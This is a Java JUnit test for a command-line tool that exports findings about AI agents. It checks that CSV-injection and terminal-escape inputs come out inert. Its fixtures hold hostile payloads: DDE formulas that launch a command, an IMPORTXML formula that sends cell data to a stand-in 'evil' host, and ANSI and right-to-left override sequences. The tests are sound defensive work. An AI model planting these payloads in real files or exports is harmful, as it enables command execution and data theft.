package io.agentgov.cli;

import static io.agentgov.cli.AgentGovCliTest.run;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.univocity.parsers.csv.CsvParser;
import com.univocity.parsers.csv.CsvParserSettings;
import io.agentgov.cli.AgentGovCliTest.Run;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Input text a spreadsheet would run as a formula ("CSV injection": a cell starting with
 * {@code = + - @}, TAB or CR) travels through {@code ingest}, {@code features} and {@code detect} into
 * {@code agentgov findings --format csv} as agent ids, a credential id, event ids and target
 * systems, and must come out inert: each such cell prefixed with a single quote and quoted.
 */
class HostileExportTest {
  static final String DAY = "2026-03-02";
  static final ObjectMapper JSON = new ObjectMapper();
  /** Agent ids the contract allows (any non-blank string), each a formula in a spreadsheet. */
  static final List<String> AGENTS = List.of("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
      "=HYPERLINK(\"http://evil.example\",\"click, here\")");
  /**
   * Agent ids a terminal would obey in the human table: a screen clear with colours, an OSC 8 link
   * ended by BEL, and a right-to-left override (Trojan Source).
   */
  static final List<String> TERMINAL_AGENTS = List.of("\u001b[2J\u001b[31mag-red\u001b[0m",
      "ag-\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007", "ag-evil\u202egnp.exe");
  /** Shared by every hostile agent: a shared_credential finding whose subject is this id. */
  static final String CREDENTIAL = "@SUM(9)";

  @TempDir
  static Path dir;
  static List<Map<String, String>> rows;

  static ObjectNode event(int i, String agent) {
    ObjectNode e = JSON.createObjectNode().put("schema_version", "1").put("event_id", "=evt-" + i)
        .put("event_time", DAY + "T09:" + (10 + i) + ":00Z").put("agent_id", agent);
    e.putObject("credential").put("id", CREDENTIAL).put("kind", "agent_token");
    e.putObject("trace").put("trace_id", "4bf92f3577b34da6a3ce929d0e0e47" + (10 + i)).put("span_id", "00f067aa0ba902" + (10 + i));
    e.putObject("action").put("type", "read").put("target_system", "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")");
    e.put("data_sensitivity", "internal").put("reversible", true);
    e.putObject("policy").put("checked", true).put("decision", "allow").put("tier", 1);
    e.putObject("outcome").put("status", "success").put("executed_at", DAY + "T09:" + (10 + i) + ":01Z");
    return e;
  }

  @BeforeAll
  static void ingestAndDetect() throws IOException {
    Path landing = dir.resolve("landing");
    List<String> agents = new ArrayList<>(AGENTS);
    agents.addAll(TERMINAL_AGENTS);
    List<String> events = new ArrayList<>();
    for (int i = 0; i < agents.size(); i++) {
      events.add(event(i, agents.get(i)).toString());
    }
    Files.createDirectories(landing.resolve("events/" + DAY));
    Files.writeString(landing.resolve("events/" + DAY + "/gw.jsonl"), String.join("\n", events) + "\n");
    Files.createDirectories(landing.resolve("registry"));
    Files.writeString(landing.resolve("registry/" + DAY + ".jsonl"),
        "{\"agent_id\": \"ag-registered\", \"status\": \"active\", \"owner_id\": \"p-1\", \"business_unit\": \"finance\"}\n");

    String warehouse = dir.resolve("warehouse").toString();
    Run ingested = run("--warehouse", warehouse, "ingest", "--landing", landing.toString(), "--date", DAY);
    assertEquals(0, ingested.exit(), ingested.err());
    assertTrue(ingested.out().contains(agents.size() + " stored"), "every hostile event is valid input: " + ingested.out());
    Run features = run("--warehouse", warehouse, "features", "--date", DAY); // detect reads the day's features
    assertEquals(0, features.exit(), features.err());
    Run detected = run("--warehouse", warehouse, "detect", "--date", DAY);
    assertEquals(0, detected.exit(), detected.err());
    Run csv = run("--warehouse", warehouse, "findings", "--format", "csv");
    assertEquals(0, csv.exit(), csv.err());
    rows = parse(csv.out());
  }

  /** The CSV as a spreadsheet's importer reads it: univocity, Spark's CSV parser, not our code. */
  static List<Map<String, String>> parse(String csv) {
    CsvParserSettings settings = new CsvParserSettings();
    settings.getFormat().setLineSeparator("\r\n");
    settings.setIgnoreLeadingWhitespaces(false);
    settings.setIgnoreTrailingWhitespaces(false);
    settings.setNormalizeLineEndingsWithinQuotes(false);
    settings.setNullValue("");
    List<String[]> records = new CsvParser(settings).parseAll(new StringReader(csv));
    List<String> header = Arrays.asList(records.get(0));
    List<Map<String, String>> out = new ArrayList<>();
    for (String[] record : records.subList(1, records.size())) {
      assertEquals(header.size(), record.length, "a record with the header's cells: " + Arrays.toString(record));
      Map<String, String> row = new TreeMap<>();
      for (int i = 0; i < header.size(); i++) {
        row.put(header.get(i), record[i]);
      }
      out.add(row);
    }
    return out;
  }

  @Test
  void noCellStartsAFormula() {
    assertTrue(rows.size() >= 2 * AGENTS.size(), "a shadow_agent and a shared_credential finding per agent: " + rows.size());
    for (Map<String, String> row : rows) {
      row.forEach((column, cell) -> assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0
          || cell.matches("[-+]?\\d+(\\.\\d+)?"), column + " starts a formula: [" + cell + "]"));
    }
  }

  @Test
  void hostileTextKeepsItsWordsBehindAQuote() {
    for (String agent : AGENTS) {
      List<Map<String, String>> mine = rows.stream().filter(r -> r.get("agent_id").equals("'" + agent)).toList();
      assertTrue(mine.size() >= 2, "findings of " + agent.replace("\r", "\\r").replace("\t", "\\t"));
      Map<String, String> shadow = mine.stream().filter(r -> r.get("finding_type").equals("shadow_agent")).findFirst()
          .orElseThrow();
      assertTrue(shadow.get("explanation").startsWith("'" + agent + " is not in the registry"), shadow.get("explanation"));
      assertTrue(shadow.get("sample_event_ids").startsWith("'=evt-"), shadow.get("sample_event_ids"));
      assertTrue(shadow.get("details").contains("read:=IMPORTXML("), "the target system, mid-cell: " + shadow.get("details"));
      Map<String, String> shared = mine.stream().filter(r -> r.get("finding_type").equals("shared_credential")).findFirst()
          .orElseThrow();
      assertEquals("'" + CREDENTIAL, shared.get("subject"));
    }
  }

  @Test
  void theTableShowsControlCharactersInsteadOfSendingThemToTheTerminal() {
    Run table = run("--warehouse", dir.resolve("warehouse").toString(), "findings");
    assertEquals(0, table.exit(), table.err());
    String out = table.out();
    assertEquals(-1, out.indexOf('\u001b'), "no ESC reaches the terminal");
    assertEquals(-1, out.indexOf('\u0007'), "no BEL reaches the terminal");
    assertEquals(-1, out.indexOf('\u202e'), "no right-to-left override reaches the terminal");
    assertTrue(out.contains("\\u001b[2J\\u001b[31mag-red\\u001b[0m"), "the sequence is shown as text:\n" + out);
    assertTrue(out.contains("ag-\\u001b]8;;http://evil.example/\\u0007link"), out);
    assertTrue(out.contains("ag-evil\\u202egnp.exe"), out);
  }
}
